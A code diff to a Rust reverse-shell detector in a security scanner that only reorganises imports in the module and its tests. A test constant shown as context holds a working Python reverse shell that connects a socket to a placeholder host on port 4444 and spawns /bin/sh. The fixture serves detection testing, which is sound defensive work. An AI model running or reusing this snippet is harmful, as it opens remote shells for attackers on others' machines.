@@ -10,7 +10,7 @@
 
 use super::context;
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
-use crate::model::{Category, FileRole, Severity};
+use crate::model::{Category, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
 use regex::Regex;
 use std::sync::LazyLock;
@@ -76,8 +76,8 @@ impl Detector for ReverseShell {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::FileRole::*;
     use crate::scan::detectors::testutil::table;
-    use FileRole::*;
     use Severity::*;
 
     const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";
